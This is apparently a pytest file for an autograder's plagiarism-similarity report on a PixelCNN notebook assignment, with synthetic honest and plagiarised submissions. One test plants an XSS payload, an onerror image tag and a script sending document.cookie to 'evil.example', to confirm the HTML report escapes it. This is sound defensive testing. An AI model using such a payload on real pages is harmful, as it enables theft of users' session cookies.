"""The class similarity report (autograder/similarity.py), on a small class built from the samples.

The class: the eight sample submissions of ``autograder/assignments/10_ar/samples/`` (the reference solution, the
starter code alone, and the reference with one typical mistake each: derived from the same code,
so rightly similar to it), a plagiarised copy of the reference (every local variable renamed,
comments rewritten, quotes changed, reformatted by ``ruff format`` at 50 columns, which splits
calls over lines with trailing commas and adds parentheses), two honest submissions written
independently (different implementations of the same specification), and a second submission
that is only the starter code.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
import tokenize
from pathlib import Path

import nbformat
import pytest

from autograder import similarity

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "autograder" / "assignments" / "10_ar" / "samples"
RELEASE = ROOT / "assignments" / "10_ar" / "pixelcnn.ipynb"
THRESHOLD = 0.6

HONEST = {
 "honest_a": {
  "masked_conv": '''class MaskedConv2d(nn.Conv2d):
    """A same-size 2-D convolution whose output (i, j) only sees input pixels before (i, j) in raster order."""

    def __init__(self, in_channels, out_channels, kernel_size, blind_center=False):
        assert kernel_size % 2 == 1
        super().__init__(in_channels, out_channels, kernel_size, padding=(kernel_size - 1) // 2)
        k = kernel_size
        allowed = torch.zeros(1, 1, k, k)
        allowed[:, :, : k // 2, :] = 1.0
        allowed[:, :, k // 2, : k // 2] = 1.0
        if not blind_center:
            allowed[:, :, k // 2, k // 2] = 1.0
        self.register_buffer("allowed", allowed)

    def forward(self, x):
        masked = self.weight * self.allowed
        return super()._conv_forward(x, masked, self.bias)
''',
  "pixelcnn": '''class PixelCNN(nn.Module):
    """PixelCNN."""

    def __init__(self, n_channels=32, kernel_size=5, n_layers=5):
        super().__init__()
        self.first = MaskedConv2d(1, n_channels, kernel_size, blind_center=True)
        self.hidden = nn.ModuleList(
            [MaskedConv2d(n_channels, n_channels, kernel_size) for _ in range(n_layers - 1)])
        self.out = nn.Conv2d(n_channels, 256, kernel_size=1)

    def forward(self, x):
        h = torch.relu(self.first(2 * x - 1))
        for layer in self.hidden:
            h = torch.relu(layer(h))
        return self.out(h)
''',
  "loss_fn": '''def loss_fn(logits, x):
    """Mean NLL in nats."""
    labels = (x * 255).round().long().squeeze(1)
    logp = torch.log_softmax(logits, dim=1)
    return -logp.gather(1, labels.unsqueeze(1)).mean()
''',
  "generate": '''def generate(net, n_samples, image_size=(28, 28), device="cpu"):
    """Sampling."""
    rows, cols = image_size
    out = torch.zeros((n_samples, 1, rows, cols), device=device)
    net.eval()
    for r in range(rows):
        for c in range(cols):
            with torch.no_grad():
                logits = net(out)
            dist = torch.distributions.Categorical(logits=logits[:, :, r, c])
            out[:, 0, r, c] = dist.sample().float() / 255.0
    return out
'''},
 "honest_b": {
  "masked_conv": '''class MaskedConv2d(nn.Conv2d):
    """A same-size 2-D convolution whose output (i, j) only sees input pixels before (i, j) in raster order."""

    def __init__(self, in_channels, out_channels, kernel_size, blind_center=False):
        pad = kernel_size // 2
        super().__init__(in_channels, out_channels, kernel_size, padding=pad)
        m = np.ones((kernel_size, kernel_size), dtype=np.float32)
        m[pad + 1:, :] = 0
        start = pad if blind_center else pad + 1
        m[pad, start:] = 0
        self.register_buffer("kernel_mask", torch.from_numpy(m)[None, None])

    def forward(self, x):
        with torch.no_grad():
            self.weight.mul_(self.kernel_mask)
        return nn.functional.conv2d(x, self.weight, self.bias, self.stride, self.padding)
''',
  "pixelcnn": '''class PixelCNN(nn.Module):
    """PixelCNN."""

    def __init__(self, n_channels=32, kernel_size=5, n_layers=5):
        super().__init__()
        mods = []
        c_in = 1
        for i in range(n_layers):
            mods.append(MaskedConv2d(c_in, n_channels, kernel_size, blind_center=(i == 0)))
            mods.append(nn.GELU())
            c_in = n_channels
        self.body = nn.Sequential(*mods)
        self.head = nn.Conv2d(n_channels, 256, 1)

    def forward(self, x):
        return self.head(self.body(x))
''',
  "loss_fn": '''def loss_fn(logits, x):
    """Mean NLL in nats."""
    B, _, H, W = x.shape
    t = torch.round(255 * x).to(torch.int64).view(B, H, W)
    nll = nn.functional.nll_loss(nn.functional.log_softmax(logits, 1), t, reduction="sum")
    return nll / (B * H * W)
''',
  "generate": '''def generate(net, n_samples, image_size=(28, 28), device="cpu"):
    """Sampling."""
    h, w = image_size
    imgs = torch.zeros(n_samples, 1, h, w, device=device)
    for idx in range(h * w):
        i, j = divmod(idx, w)
        with torch.no_grad():
            p = torch.softmax(net(imgs)[..., i, j], dim=-1)
        imgs[:, 0, i, j] = torch.multinomial(p, num_samples=1).squeeze(-1) / 255
    return imgs
'''},
}
# The plagiarist's renames: every local variable and parameter of the reference's solution bodies.
RENAME = {"mask": "keep", "c": "mid", "layers": "blocks", "H": "height", "W": "width", "x": "img",
          "probs": "p_pixel", "target": "labels", "i": "row", "j": "col", "_": "layer_idx",
          "logits": "scores", "net": "model"}


def plagiarise(source: str) -> str:
    """Rename the local variables, rewrite the comments, change quotes, then reformat."""
    tokens, previous = [], None
    for tok in tokenize.generate_tokens(io.StringIO(source).readline):
        text = tok.string
        if tok.type == tokenize.NAME and text in RENAME and not (previous and previous.string == "."):
            text = RENAME[text]
        elif tok.type == tokenize.COMMENT and "SOLUTION" not in text:
            text = "# keep only the causal part"
        elif tok.type == tokenize.STRING and text.startswith('"') and not text.startswith('"""'):
            text = "'" + text[1:-1] + "'"
        tokens.append((tok.type, text))
        previous = tok
    done = subprocess.run([sys.executable, "-m", "ruff", "format", "--line-length", "50", "-"],
                          input=tokenize.untokenize(tokens), capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout


def _write(folder: Path, nb) -> None:
    (folder / "10_ar").mkdir(parents=True)
    nbformat.write(nb, folder / "10_ar" / "pixelcnn.ipynb")


def _solution_ids(nb) -> list[str]:
    return [c.metadata["nbgrader"]["grade_id"] for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")]


@pytest.fixture(scope="module")
def klass(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("class")
    for sample in sorted(SAMPLES.iterdir()):
        _write(root / sample.name, nbformat.read(sample / "10_ar" / "pixelcnn.ipynb", as_version=4))
    copy = nbformat.read(SAMPLES / "reference" / "10_ar" / "pixelcnn.ipynb", as_version=4)
    for cell in copy.cells:
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = plagiarise(cell.source)
    _write(root / "plagiarist", copy)
    for name, fills in HONEST.items():
        nb = nbformat.read(RELEASE, as_version=4)
        assert set(fills) <= set(_solution_ids(nb))
        for cell in nb.cells:
            cell.source = fills.get(cell.metadata.get("nbgrader", {}).get("grade_id"), cell.source)
        _write(root / name, nb)
    _write(root / "starter_only", nbformat.read(RELEASE, as_version=4))
    return root


@pytest.fixture(scope="module")
def report(klass):
    return similarity.similarity_report(klass, "10_ar", threshold=THRESHOLD, top=50)


def test_plagiarised_pair_flagged_honest_pairs_lower_starter_zero(report):
    print("\n".join(f"{p.score:.3f} {p.a} {p.b}" for p in report.pairs))
    samples = [p.name for p in SAMPLES.iterdir() if p.is_dir()]
    assert len(report.submissions) == len(samples) + 4 and not report.notes
    plagiarised = report.score("plagiarist", "reference")
    assert plagiarised >= 0.9  # measured 0.95
    assert ("plagiarist", "reference") in {(p.a, p.b) for p in report.flagged()}
    honest = [report.score(h, other) for h in HONEST for other in ("reference", "plagiarist", "mask_once")]
    honest.append(report.score("honest_a", "honest_b"))
    assert max(honest) <= 0.3  # measured 0.11 to 0.23: shared idioms of one specification
    assert plagiarised - max(honest) >= 0.5
    assert not any({p.a, p.b} & set(HONEST) for p in report.flagged())
    # Only the starter code: every k-gram is boilerplate, nothing to share.
    assert report.score("blank", "starter_only") == 0.0
    assert all(p.score == 0.0 for p in report.pairs if {p.a, p.b} & {"blank", "starter_only"})
    # The mistake samples are the reference with one line changed: copies of it, rightly flagged.
    for sample in {"mask_centre", "mask_once", "loss_truncated", "generate_argmax", "generate_columns"} & set(samples):
        assert report.score(sample, "reference") >= 0.9


def test_normalisation_adds_what_copydetect_lacks(klass, report, monkeypatch):
    # copydetect alone (identifiers, comments, whitespace) sees less of the reformatted copy.
    monkeypatch.setattr(similarity, "normalise", lambda code: code)
    plain = similarity.similarity_report(klass, "10_ar", threshold=THRESHOLD)
    assert plain.score("plagiarist", "reference") < report.score("plagiarist", "reference") - 0.1  # 0.78 vs 0.95


def test_normalise_blanks_in_place():
    code = ('def f(a, b):\n    """Doc, ünïcode."""\n    %time g(a)\n    x = g(\n        a,\n        b,\n    )\n'
            '    "a bare string"\n    return (x,)  # c\n!ls -l\n')
    out = similarity.normalise(code)
    assert len(out) == len(code) and [m.start() for m in re.finditer("\n", out)] == \
        [m.start() for m in re.finditer("\n", code)]
    assert "Doc" not in out and "bare string" not in out and "%time" not in out and "!ls" not in out
    assert "b,\n" not in out and "b \n" in out and "(x )" in out
    assert "x = g(" in out and "# c" in out  # code and comments (copydetect drops those) kept
    broken = 'def f(:\n    """doc"""\n    return 1,)\n'  # a syntax error: no docstrings known, commas still
    assert similarity.normalise(broken) == broken.replace("1,)", "1 )")
    untokenizable = 'def f():\n    """never closed\n    return g(1,)\n'
    assert similarity.normalise(untokenizable) == untokenizable


def test_report_is_self_contained_escaped_and_shows_original_lines(klass, tmp_path):
    room = tmp_path / "class"
    for name in ("reference", "plagiarist", "honest_a", "honest_b", "blank"):
        shutil.copytree(klass / name, room / name)
    evil = "<img src=x onerror=alert(1)>"
    os.rename(room / "plagiarist", room / evil)
    nb = nbformat.read(room / evil / "10_ar" / "pixelcnn.ipynb", as_version=4)
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "loss_fn":
            cell.source += "\n# </code></pre><script>fetch('https://evil.example/?'+document.cookie)</script>\n"
    nbformat.write(nb, room / evil / "10_ar" / "pixelcnn.ipynb")
    out = tmp_path / "report.html"
    assert similarity.main(["--submitted", str(room), "--assignment", "10_ar", "--out", str(out),
                            "--threshold", "0.0", "--top", "5"]) == 0
    page = out.read_text(encoding="utf-8")
    assert "<script" not in page and "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;" in page
    # Nothing is fetched when it is opened: no external reference at all, and a CSP that forbids any.
    assert not re.search(r"""(src|href)\s*=\s*['"](?!#)""", page)
    assert not re.search(r"https?://|@import|url\(", page.replace("https://evil.example", ""))
    assert "default-src 'none'" in page
    # The students' own lines, highlighted: the plagiarist's renamed variables and rewritten comments.
    assert "keep = torch.ones(" in page and "# keep only the causal part" in page
    assert page.count("class='highlight-red'") > 0 and page.count("class='highlight-green'") > 0
    assert len(re.findall(r"<details id='pair\d+'", page)) == 5  # --top 5


def test_links_and_unreadable_notebooks_are_skipped_with_a_note(klass, tmp_path):
    room = tmp_path / "class"
    for name in ("reference", "plagiarist", "honest_a"):
        shutil.copytree(klass / name, room / name)
    os.symlink(room / "reference", room / "linked_student")
    (room / "linked_nb" / "10_ar").mkdir(parents=True)
    os.symlink(room / "reference" / "10_ar" / "pixelcnn.ipynb", room / "linked_nb" / "10_ar" / "pixelcnn.ipynb")
    (room / "broken" / "10_ar").mkdir(parents=True)
    (room / "broken" / "10_ar" / "pixelcnn.ipynb").write_text('{"cells": [', encoding="utf-8")
    (room / "no_assignment").mkdir()
    (room / "stray.txt").write_text("hello")
    nb = nbformat.read(room / "honest_a" / "10_ar" / "pixelcnn.ipynb", as_version=4)
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "generate"]
    nbformat.write(nb, room / "honest_a" / "10_ar" / "pixelcnn.ipynb")
    r = similarity.similarity_report(room, "10_ar")
    assert sorted(r.submissions) == ["honest_a", "plagiarist", "reference"]
    notes = "\n".join(r.notes)
    assert "linked_student: a symbolic link, not followed" in notes
    assert "linked_nb: pixelcnn.ipynb could not be read (a symbolic link, not followed)" in notes
    assert "broken: pixelcnn.ipynb could not be read" in notes
    assert "no_assignment: no 10_ar/ folder (not submitted)" in notes
    assert "stray.txt: not a folder" in notes
    assert "honest_a: pixelcnn.ipynb: no solution cell 'generate'" in notes
    assert r.submissions["honest_a"].cells == ["masked_conv", "pixelcnn", "loss_fn"]
    assert len(r.pairs) == 3


def test_any_assignment_and_bad_input(tmp_path, capsys):
    # A course of its own, with another assignment name and notebook: nothing is specific to 10_ar.
    course = tmp_path / "course"
    meta = {"schema_version": 3, "grade": False, "locked": False, "task": False, "solution": True}
    for folder, body in (("solutions", "    ### BEGIN SOLUTION\n    return sorted(xs)[len(xs) // 2]\n"
                                       "    ### END SOLUTION\n"),
                         ("assignments", "    # YOUR CODE HERE\n    raise NotImplementedError()\n")):
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell("def median(xs):\n" + body,
                                              metadata={"nbgrader": {**meta, "grade_id": "median"}})]
        (course / folder / "stats_hw").mkdir(parents=True)
        nbformat.write(nb, course / folder / "stats_hw" / "stats.ipynb")
    subs = tmp_path / "submitted"
    answers = {"amy": "def median(xs):\n    s = sorted(xs)\n    n = len(s)\n    mid = n // 2\n"
                      "    return s[mid] if n % 2 else (s[mid - 1] + s[mid]) / 2\n",
               "bob": "def median(values):\n    ordered = sorted(values)  # sort first\n    k = len(ordered)\n"
                      "    half = k // 2\n"
                      "    return ordered[half] if k % 2 else (ordered[half - 1] + ordered[half]) / 2\n",
               "cat": "def median(xs):\n    import statistics\n    return statistics.median(xs)\n"}
    answers["bob"] = answers["bob"].replace("(ordered[half - 1] + ordered[half]) / 2", "(ordered[half - 1]\n"
                                            "                                           + ordered[half]) / 2")
    for student, code in answers.items():
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell(code, metadata={"nbgrader": {**meta, "grade_id": "median"}})]
        (subs / student / "stats_hw").mkdir(parents=True)
        nbformat.write(nb, subs / student / "stats_hw" / "stats.ipynb")
    r = similarity.similarity_report(subs, "stats_hw", course=course, threshold=0.5, noise=15)
    assert r.score("amy", "bob") == 1.0 and r.score("amy", "cat") < 0.2
    assert [(p.a, p.b) for p in r.flagged()] == [("amy", "bob")]

    with pytest.raises(similarity.SimilarityError, match=r"no assignment '11_xyz'.*assignments there: stats_hw"):
        similarity.similarity_report(subs, "11_xyz", course=course)
    with pytest.raises(similarity.SimilarityError, match="no submissions folder"):
        similarity.similarity_report(tmp_path / "nowhere", "stats_hw", course=course)
    assert similarity.main(["--submitted", str(subs), "--assignment", "nope", "--out", str(tmp_path / "r.html"),
                            "--course", str(course)]) == 2
    assert "no assignment 'nope'" in capsys.readouterr().err


def test_command_line_and_same_scores_in_another_process(klass, report, tmp_path):
    out = tmp_path / "r.html"
    # Another hash seed: with window 1 every k-gram is kept, so the scores cannot depend on it.
    env = dict(os.environ, PYTHONPATH=str(ROOT), PYTHONHASHSEED="12345")
    done = subprocess.run([sys.executable, "-m", "autograder", "similarity", "--submitted", str(klass),
                           "--assignment", "10_ar", "--out", str(out), "--threshold", "0", "--top", "1000"],
                          capture_output=True, text=True, cwd=ROOT, env=env, timeout=120)
    assert done.returncode == 0, done.stderr
    n = len(list(klass.iterdir()))
    assert f"{n} submissions, {n * (n - 1) // 2} pairs" in done.stdout and out.is_file()
    printed = {tuple(m.group(2, 3)): float(m.group(1))
               for m in re.finditer(r"^\s+(\d\.\d{3})\s+(\S+)\s+(\S+)\s", done.stdout, flags=re.M)}
    assert printed == {(p.a, p.b): round(p.score, 3) for p in report.pairs}
